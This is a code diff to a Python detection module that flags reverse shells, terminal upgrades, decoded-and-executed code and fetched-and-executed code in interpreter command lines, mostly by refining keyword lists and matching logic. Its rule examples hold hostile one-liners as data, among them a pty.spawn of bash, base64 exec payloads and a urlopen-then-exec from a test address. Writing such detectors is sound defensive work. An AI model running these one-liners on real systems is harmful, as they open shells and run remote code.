@@ -4,10 +4,14 @@ import re
 
 from apps.detection.argv.interpreters import INTERPRETERS
 from apps.detection.argv.invocation import Invocation
+from apps.detection.reading import WRITTEN
 from apps.detection.rules.base import Detail, Rule
 from apps.detection.rules.shells.knowledge import GIVES_SHELL, LASTING, SHELLS
 
 _ADDRESS = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")
+_PLUMBED = ("dup2", "pty.spawn", "fileno()", "open(stdin", "to_i", "<&3", ">&3", "fdopen", "reopen(", "getstream(", "]=>tcpsocket", "run(pipeline")
+_VAGUE = {"exec ", "eval(", "$stdin", "%x", "pipe("}
+_SHORT = 1_500
 _DECODES = ("b64decode", "base64.decode", "decode64", "base64_decode", "frombase64", "bytes.fromhex", "codecs.decode", "atob(",
             "decompress(", "unhexlify", "marshal.loads", "buffer.from(", "pack('h", 'pack("h', "unpack('m", "decode_base64")  # fmt: skip
 _RUNS = ("exec(", "eval(", "exec ", "eval ", "compile(", "os.system(", "system(", "runpy", "instance_eval", "function(")
@@ -21,17 +25,24 @@ def _connected_shell(invocation: Invocation) -> Detail | None:
         return None
     code_and_flags = code + " " + " ".join(word for word in invocation.args if word[:2] in ("-r", "-M", "-m")).lower()
     connects = next((word for word in LASTING if word in code_and_flags), "")
-    gives = next((word for word in GIVES_SHELL if word in code), "")
+    gives = [word for word in GIVES_SHELL if word in code]
     shell = next((word for word in SHELLS if word in code), "")
     if not connects or not gives:
         return None
-    plumbed = "dup2" in code or "pty.spawn" in code or "fileno()" in code or "open(stdin" in code or "to_i" in code or "<&3" in code or ">&3" in code
-    returns = any(word in code for word in ("recv(", "gets", "readline", "getline", "read(", ".read", "fgets", "on('data", 'on("data'))
+    plumbed = any(word in code for word in _PLUMBED)
+    returns = any(word in code for word in ("recv(", "gets", "readline", "getline", "read(", ".read", "fgets", "receive", "on('data", 'on("data'))
     sends = any(word in code for word in ("send(", ".write", "print ", "puts", "sendall(", "|&", "pipe(", "fputs", "f:write"))
-    if shell or plumbed or (returns and sends and gives not in ("exec ", "eval(", "$stdin", "%x", "pipe(")):
-        address = _ADDRESS.search(invocation.code)
-        return {"language": invocation.program, "remote": address.group() if address else "", "code": invocation.code}
+    if len(code) > _SHORT:  # a program, not a one-liner: only the plumbing itself tells
+        return _answer(invocation) if ("dup2" in code and shell) or "pty.spawn" in code else None
+    answers = returns and sends and WRITTEN not in invocation.via and (set(gives) - _VAGUE or invocation.program in ("tclsh", "wish", "expect"))
+    if shell or plumbed or answers:
+        return _answer(invocation)
     return None
+
+
+def _answer(invocation: Invocation) -> Detail:
+    address = _ADDRESS.search(invocation.code)
+    return {"language": invocation.program, "remote": address.group() if address else "", "code": invocation.code}
 
 
 def _terminal(invocation: Invocation) -> Detail | None:
@@ -60,7 +71,7 @@ def _fetched_code(invocation: Invocation) -> Detail | None:
 
 _HINTS = ("socket", "/inet/", "connect", "fsockopen", "createserver", "tcpclient", "gen_tcp", "net.dial", "tcpstream", "/dev/tcp/",
           "/dev/udp/", "sockaddr", "new_tcp", "make-network", "start_server")  # fmt: skip
-_LANGUAGES = frozenset(INTERPRETERS)
+_LANGUAGES = frozenset(INTERPRETERS) | {"go"}
 
 CONNECTED = Rule(
     slug="shell-from-code",
@@ -84,6 +95,7 @@ CONNECTED = Rule(
         'function(){c.pipe(require("child_process").spawn("sh",[]).stdin)})\'',
     ),
     match=_connected_shell,
+    code=True,
     programs=_LANGUAGES,
     hints=_HINTS,
 )
@@ -100,6 +112,7 @@ TERMINAL = Rule(
     false_positives="Wrappers that need a terminal for a program; use script(1) there.",
     examples=("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",),
     match=_terminal,
+    code=True,
     programs=frozenset({"python"}),
     hints=("pty",),
 )
@@ -115,6 +128,7 @@ HIDDEN = Rule(
     false_positives="Installers and test harnesses that pack a script into one argument.",
     examples=("python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"", "php -r 'eval(base64_decode(\"ZWNobw==\"));'"),
     match=_hidden_code,
+    code=True,
     programs=_LANGUAGES,
     hints=_DECODES,
 )
@@ -130,6 +144,7 @@ FETCHED = Rule(
     false_positives="One-line installers.",
     examples=("python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/x').read())\"",),
     match=_fetched_code,
+    code=True,
     programs=_LANGUAGES,
     hints=("http",),
 )
